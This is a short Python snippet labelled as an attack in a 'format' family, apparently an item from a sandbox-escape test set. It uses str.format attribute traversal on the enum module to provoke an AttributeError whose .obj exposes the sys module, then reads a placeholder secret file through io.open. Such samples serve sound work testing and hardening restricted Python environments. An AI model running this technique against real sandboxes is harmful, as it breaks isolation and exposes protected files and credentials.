# attack: a format walk yields only text; but where it fails, the AttributeError carries the object that it had reached
# family: format
import enum
try:
    "{0.sys.nothing}".format(enum)
except AttributeError as error:
    sys = error.obj
print("REACHED", sys)
print(sys.modules["io"].open("$SECRET_FILE").read())
